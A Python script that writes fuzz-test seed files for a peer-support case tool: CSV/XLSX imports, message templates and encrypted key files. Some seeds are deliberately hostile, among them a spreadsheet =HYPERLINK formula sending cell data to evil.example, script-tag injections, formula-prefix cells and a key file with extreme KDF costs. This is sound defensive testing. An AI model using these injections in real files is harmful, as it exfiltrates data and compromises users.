#!/usr/bin/env python3
"""Writes the committed seed inputs of the fuzz targets, one folder per target:

    python3 fuzz/seeds/make-seeds.py

Plain text seeds are written as they are; the XLSX seeds are built part by part with
zipfile (fixed timestamps, so the bytes never change); the key files are sealed for real
(Argon2id from `cryptography`, XChaCha20-Poly1305 as HChaCha20 + ChaCha20-Poly1305) with
tiny Argon2 costs, so the key_file_parse target unwraps them with its fixed passphrase.
Needs the `cryptography` package (44 or later, for Argon2id) for the key files only.
"""

import base64
import json
import os
import struct
import sys
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))


def write(target, name, data):
    folder = os.path.join(HERE, target)
    os.makedirs(folder, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


# ---- XLSX: the smallest workbook calamine reads (inline strings, no styles) ----

def column(index):
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def xlsx(rows):
    sheet_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{column(c)}{r}"
            if isinstance(value, (int, float)):
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
            elif value != "":
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{escape(value)}</t></is></c>')
        sheet_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    width = max(len(row) for row in rows)
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
            "</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="A1:{column(width - 1)}{len(rows)}"/>'
            f'<sheetData>{"".join(sheet_rows)}</sheetData>'
            "</worksheet>"
        ),
    }
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, text)
    return buffer.getvalue()


# ---- XChaCha20-Poly1305 and the key file, as src-tauri/core/src/keyfile.rs seals it ----

def rotl(v, n):
    return ((v << n) & 0xFFFFFFFF) | (v >> (32 - n))


def quarter(s, a, b, c, d):
    s[a] = (s[a] + s[b]) & 0xFFFFFFFF; s[d] = rotl(s[d] ^ s[a], 16)
    s[c] = (s[c] + s[d]) & 0xFFFFFFFF; s[b] = rotl(s[b] ^ s[c], 12)
    s[a] = (s[a] + s[b]) & 0xFFFFFFFF; s[d] = rotl(s[d] ^ s[a], 8)
    s[c] = (s[c] + s[d]) & 0xFFFFFFFF; s[b] = rotl(s[b] ^ s[c], 7)


def hchacha20(key, nonce16):
    s = list(struct.unpack("<4I", b"expand 32-byte k")) + list(struct.unpack("<8I", key)) + list(struct.unpack("<4I", nonce16))
    for _ in range(10):
        quarter(s, 0, 4, 8, 12); quarter(s, 1, 5, 9, 13); quarter(s, 2, 6, 10, 14); quarter(s, 3, 7, 11, 15)
        quarter(s, 0, 5, 10, 15); quarter(s, 1, 6, 11, 12); quarter(s, 2, 7, 8, 13); quarter(s, 3, 4, 9, 14)
    return struct.pack("<8I", *(s[0:4] + s[12:16]))


def xchacha20poly1305_encrypt(key, nonce24, plaintext, aad):
    from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

    subkey = hchacha20(key, nonce24[:16])
    return ChaCha20Poly1305(subkey).encrypt(b"\0\0\0\0" + nonce24[16:], plaintext, aad)


def self_test():
    # draft-irtf-cfrg-xchacha-03, 2.2.1 (HChaCha20) and A.3.1 (XChaCha20-Poly1305).
    assert hchacha20(bytes(range(32)), bytes.fromhex("000000090000004a0000000031415927")).hex() == (
        "82413b4227b27bfed30e42508a877d73a0f9e4d58a74a853c12ec41326d3ecdc"
    )
    sealed = xchacha20poly1305_encrypt(
        bytes(range(0x80, 0xA0)),
        bytes(range(0x40, 0x58)),
        b"Ladies and Gentlemen of the class of '99: If I could offer you only one tip for the future, sunscreen would be it.",
        bytes.fromhex("50515253c0c1c2c3c4c5c6c7"),
    )
    assert sealed.hex().startswith("bd6d179d3e83d43b9576579493c0e939572a1700252bfaccbed2902c21396cbb"), sealed.hex()
    assert sealed.hex().endswith("c0875924c1c7987947deafd8780acf49"), sealed.hex()


def key_file(store_id, passphrase, memory_kib, iterations, parallelism, seed, pending=False):
    from cryptography.hazmat.primitives.kdf.argon2 import Argon2id

    salt = bytes((seed + i) % 256 for i in range(16))
    wrapping_key = Argon2id(
        salt=salt, length=32, iterations=iterations, lanes=parallelism, memory_cost=memory_kib
    ).derive(passphrase.encode())
    salt_b64 = base64.b64encode(salt).decode()
    aad = f"peerdesk-key-file:1:{store_id}:argon2id:{memory_kib}:{iterations}:{parallelism}:{salt_b64}:xchacha20poly1305"

    def wrap(slot, key_seed):
        nonce = bytes((key_seed * 7 + i) % 256 for i in range(24))
        data_key = bytes((key_seed * 13 + i * 3) % 256 for i in range(32))
        sealed = xchacha20poly1305_encrypt(wrapping_key, nonce, data_key, (aad + slot).encode())
        return {"nonce": base64.b64encode(nonce).decode(), "wrapped_key": base64.b64encode(sealed).decode()}

    # The field order and layout of `KeyFile::to_text` (serde_json's pretty printer).
    document = {
        "format": "peerdesk-key-file",
        "version": 1,
        "store_id": store_id,
        "kdf": {
            "algorithm": "argon2id",
            "memory_kib": memory_kib,
            "iterations": iterations,
            "parallelism": parallelism,
            "salt": salt_b64,
        },
        "cipher": "xchacha20poly1305",
        **wrap("", seed),
    }
    if pending:
        document["pending"] = wrap(":pending", seed + 1)
    return json.dumps(document, indent=2, ensure_ascii=False)


def main():
    # ---- roster_import ----
    write(
        "roster_import",
        "roster.csv",
        "Name,Role,Department,Organization,Email,Phone,Languages,Years in role,Trained on,Status,Max open cases,Consent to list,Notes\n"
        'Ana Host,Nurse,Intensive care,Host Hospital,,555-0101,"English, Spanish",12,2025-01-10,active,3,yes,Nights\n'
        "Bo Berg,Physician,Surgery,Partner Clinic,bo.berg@partner.example,555-0102,English,4,2025-03-02,paused,2,no,\n"
        "Pat Partner,Nurse,,,PAT.PARTNER@partner.example,,,,,,,,\n"
        "Chen Wu,Respiratory therapist,Emergency department,New Site,chen.wu@newsite.example,,Mandarin,,45658,,1,y,\n",
    )
    write(
        "roster_import",
        "semicolon-bom.csv",
        "\ufeffFirst name;Last name;Job title;Unit;E-mail;Trained\r\n"
        "Lina;Haddad;Nurse;Intensive care;lina.haddad@riverside.example;01/02/2025\r\n"
        "\r\n"
        "Jonas;Berg;Physician;Surgery;jonas@riverside.example;\r\n",
    )
    write(
        "roster_import",
        "hostile.csv",
        "Name,Role,Notes\n"
        '"=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")",Nurse,formula\n'
        '"<script>alert(1)</script>",Nurse,"two\nlines, ""quoted"""\n'
        "+SUM(1;2),Physician,@cmd\n"
        ",,\n"
        "Ana Host,Nurse,\n"
        "ana host,Nurse,the same person twice\n",
    )
    write(
        "roster_import",
        "roster.xlsx",
        xlsx(
            [
                ["Name", "Role", "Department", "Email", "Max open cases", "Trained on"],
                ["Ana Lima", "Nurse", "Intensive care", "ana.lima@riverside.example", 2, "2025-01-10"],
                ["Bo Berg", "Physician", "Surgery", "", 1, 45658],
            ]
        ),
    )

    # ---- requests_import ----
    write(
        "requests_import",
        "webform.csv",
        "Timestamp,Your name,Email,Role,Department,Organization,Preferred way to talk,Issue type,Message\n"
        "11/20/2026 14:05:33,Sam,sam@example.org,Nurse,Intensive care,Host Hospital,Video,Burnout; Patient death,Rough week\n"
        "2026-11-21 09:10,,,Physician,Surgery,Partner Clinic,phone,Medical error,\n",
    )
    write(
        "requests_import",
        "webform-rejected.csv",
        "Timestamp,Role,Department,Organization\n"
        "2026-11-22 10:00,Nurse,Intensive care,Host Hospital\n"
        "22/11/2026,Astronaut,Intensive care,Host Hospital\n"
        '2026-11-22 11:00,"=HYPERLINK(""http://x"",""y"")",Intensive care,Host Hospital\n'
        "2026-11-22T11:30:00+01:00,<script>alert(1)</script>,Surgery,Nowhere\n",
    )
    write(
        "requests_import",
        "forms-semicolon-bom.csv",
        "\ufeffSubmitted at;Requester;How can we reach you;Your role;Your department;Site;Who referred you;What is this about;Anything else;Preferred language\r\n"
        '11/22/2026 8:15 PM;"Lee, Dana";dana@example.org · 555-0199;Physician;Emergency department;Host Hospital;Chaplain;"Medical error, Burnout";"Call after 6 pm;\r\nnot at work";Spanish\r\n',
    )
    write(
        "requests_import",
        "webform.xlsx",
        xlsx(
            [
                ["Timestamp", "Role", "Department", "Organization", "Issue type"],
                ["2026-11-20 16:30", "Nurse", "Intensive care", "Host Hospital", "Burnout"],
                [46346.5, "Physician", "Surgery", "Partner Clinic", "Patient death"],
            ]
        ),
    )

    # ---- nominations_import ----
    write(
        "nominations_import",
        "survey.csv",
        "Timestamp,Your department,Who would you turn to?,Nominee department\n"
        "2026-10-01,Intensive care,Ana Host,Intensive care\n"
        "2026-10-01,intensive care,ana host,\n"
        "2026-10-02,Surgery,Bo Berg,Surgery\n"
        "2026-10-02,Surgery,n/a,\n"
        "2026-10-03,,Someone,\n"
        '2026-10-03,Emergency department,"=HYPERLINK(""http://evil.example"",""x"")",\n'
        "2026-10-04,Emergency department,<b>Chen</b>,ED\n",
    )
    write(
        "nominations_import",
        "survey-semicolon-bom.csv",
        "\ufeffRespondent unit;Nominee;Colleague department\r\n"
        "Pédiatrie;Élodie Martin;Pédiatrie\r\n"
        "PÉDIATRIE;élodie martin;\r\n"
        "Urgences;don't know;\r\n",
    )
    write(
        "nominations_import",
        "survey.xlsx",
        xlsx(
            [
                ["Department", "Nominee"],
                ["Intensive care", "Ana Host"],
                ["Surgery", "Pat Partner"],
                ["Surgery", "none"],
            ]
        ),
    )

    # ---- template_render: first byte = kind + 4 * context (see the target); L = 76 is
    # the acknowledgement with request and supporter, M the introduction, N the follow-up,
    # O the meeting reminder; @ = 64 the acknowledgement with neither. ----
    write(
        "template_render",
        "acknowledgement",
        "LWe received your request {{request.id}}\n"
        "Dear {{ request.requester_name }},\n\n"
        "Thank you for reaching out to {{program.name}} on {{request.received}}. "
        "A peer supporter will contact you by {{due_date}} ({{request.preferred_mode}}).\n\n"
        "If you need to talk sooner, call {{program.phone}} or write to {{program.email}}.\n",
    )
    write(
        "template_render",
        "introduction",
        "MA colleague would like to talk: {{request.id}}\n"
        "Hi {{supporter.first_name}},\n\n"
        "A {{request.role}} from {{request.department}} at {{request.organization}} asked for support "
        "about {{request.issue_types}}. Reach them at {{request.contact}}; the first contact is due "
        "{{due_date}}.\n\nNote: {{request.note}}\n",
    )
    write(
        "template_render",
        "reminder",
        "OSupport-the-supporters meeting\n"
        "Hi {{supporter.name}} ({{supporter.role}}, {{supporter.department}}, {{supporter.organization}}),\n"
        "your last meeting was {{supporter.last_meeting}}. We have {{supporter.phone}} / "
        "{{supporter.email}} on file. Next check-in: {{follow_up_date}}. Form: {{program.request_form_url}}\n",
    )
    write(
        "template_render",
        "refused",
        "@Unclosed {{program.name\n"
        "Dear {{requester.first}}, <script>alert(1)</script> =HYPERLINK(\"http://x\") {{ }} {{{{program.name}}}}\n",
    )

    # ---- key_file_parse ----
    passphrase = "correct horse battery staple"
    write("key_file_parse", "keyfile.json", key_file("4f9c2a7e1b3d4c5e", passphrase, 64, 1, 1, seed=1))
    write(
        "key_file_parse",
        "keyfile-rotating.json",
        key_file("4f9c2a7e1b3d4c5e", passphrase, 32, 2, 4, seed=40, pending=True),
    )
    recommended = json.loads(key_file("0123456789abcdef", passphrase, 64, 1, 1, seed=80))
    # The costs PeerDesk writes (parsed, never unwrapped by the target: too slow per input).
    recommended["kdf"].update(memory_kib=65536, iterations=3, parallelism=1)
    write("key_file_parse", "keyfile-recommended.json", json.dumps(recommended, indent=2))
    hostile = dict(recommended)
    hostile["kdf"] = dict(recommended["kdf"], memory_kib=4294967295, iterations=4294967295)
    write("key_file_parse", "keyfile-out-of-bounds.json", json.dumps(hostile, indent=2))


if __name__ == "__main__":
    self_test()
    main()
    sys.exit(0)
